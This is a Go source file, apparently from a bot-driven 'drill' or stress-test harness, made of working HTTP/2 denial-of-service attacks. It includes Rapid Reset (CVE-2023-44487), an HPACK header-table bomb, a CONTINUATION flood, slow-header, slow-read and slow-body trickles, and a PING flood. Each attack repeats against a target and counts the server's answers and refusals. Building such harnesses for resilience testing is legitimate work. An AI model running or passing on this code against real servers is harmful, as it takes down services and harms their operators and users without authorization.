package drill

import (
	"bytes"
	"context"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 is a bot's end of an HTTP/2 connection, held by hand so that it can do what no client would.
type h2 struct {
	*http2.Framer
	bot  *bot
	head bytes.Buffer
	enc  *hpack.Encoder
	next uint32 // the next stream
	gone chan struct{}
}

// openH2 begins HTTP/2 with the settings. It reads and counts what the door says until the connection ends, which closes
// gone.
func openH2(b *bot, c net.Conn, settings ...http2.Setting) (*h2, error) {
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, err
	}
	h := &h2{Framer: http2.NewFramer(c, c), bot: b, next: 1, gone: make(chan struct{})}
	h.enc = hpack.NewEncoder(&h.head)
	if err := h.WriteSettings(settings...); err != nil {
		return nil, err
	}
	go func() {
		defer close(h.gone)
		for {
			f, err := h.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.HeadersFrame:
				b.stats.answered.Add(1)
			case *http2.RSTStreamFrame, *http2.GoAwayFrame:
				b.stats.refused.Add(1)
				if f.Header().Type == http2.FrameGoAway {
					c.Close()
				}
			}
		}
	}()
	return h, nil
}

// request encodes the head of a request and returns its stream and block.
func (h *h2) request(method, path string) (uint32, []byte) {
	h.head.Reset()
	for _, f := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", shopHost}, {":path", path}, {"user-agent", firefox}} {
		_ = h.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // a bytes.Buffer takes everything
	}
	id := h.next
	h.next += 2
	return id, h.head.Bytes()
}

// attack repeats step at the bot's rate until it fails, the door has gone or ctx ends.
func attack(ctx context.Context, b *bot, c net.Conn, settings []http2.Setting, step func(h *h2) error) {
	h, err := openH2(b, c, settings...)
	if err != nil {
		return
	}
	defer func() { c.Close(); <-h.gone }()
	for ctx.Err() == nil {
		select {
		case <-h.gone:
			return
		default:
		}
		b.stats.sent.Add(1)
		if step(h) != nil || !wait(ctx, b.every) {
			return
		}
	}
}

// h2Reset asks and takes back (Rapid Reset, CVE-2023-44487).
func h2Reset(ctx context.Context, b *bot, c net.Conn) {
	attack(ctx, b, c, nil, func(h *h2) error {
		id, block := h.request("GET", "/api/stock/1")
		if err := h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		return h.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// h2Bomb makes each byte on the wire a large field by references to the header table, and never opens the window.
func h2Bomb(ctx context.Context, b *bot, c net.Conn) {
	large := string(bytes.Repeat([]byte("x"), 3900))
	attack(ctx, b, c, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(h *h2) error {
		id, _ := h.request("GET", "/")
		_ = h.enc.WriteField(hpack.HeaderField{Name: "x", Value: large})
		const newest = 0xbe // an indexed field: the entry that was added last (RFC 7541, section 6.1)
		block := append(h.head.Bytes(), bytes.Repeat([]byte{newest}, 4000)...)
		return h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
	})
}

// h2Continuation never ends a head (CONTINUATION flood, 2024).
func h2Continuation(ctx context.Context, b *bot, c net.Conn) {
	begun := uint32(0)
	attack(ctx, b, c, nil, func(h *h2) error {
		id, block := h.request("GET", "/")
		if begun == 0 {
			begun = id
			return h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block})
		}
		return h.WriteContinuation(begun, false, nil)
	})
}

// h2SlowHead begins a head and adds a byte of it now and then.
func h2SlowHead(ctx context.Context, b *bot, c net.Conn) {
	begun := uint32(0)
	attack(ctx, b, c, nil, func(h *h2) error {
		if begun == 0 {
			id, block := h.request("GET", "/")
			begun = id
			return h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true})
		}
		const name = 0x8f // an indexed field of the static table: one byte is one field
		wait(ctx, trickle)
		return h.WriteContinuation(begun, false, []byte{name})
	})
}

// h2Ping asks for answers that cost the asker nothing.
func h2Ping(ctx context.Context, b *bot, c net.Conn) {
	attack(ctx, b, c, nil, func(h *h2) error { return h.WritePing(false, [8]byte{1}) })
}

// h2SlowRead asks for as much as it may and lets none of it come.
func h2SlowRead(ctx context.Context, b *bot, c net.Conn) {
	asked := 0
	attack(ctx, b, c, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(h *h2) error {
		if asked++; asked > 50 {
			wait(ctx, trickle)
			return nil
		}
		id, block := h.request("GET", "/packages/large.deb")
		return h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
	})
}

// h2SlowBody opens many uploads and sends each a byte now and then.
func h2SlowBody(ctx context.Context, b *bot, c net.Conn) {
	opened := uint32(0)
	attack(ctx, b, c, nil, func(h *h2) error {
		if opened < 20 {
			opened++
			id, block := h.request("POST", "/login")
			return h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		}
		wait(ctx, trickle)
		return h.WriteData(1+2*(uint32(time.Now().UnixNano())%opened), false, []byte{'u'})
	})
}
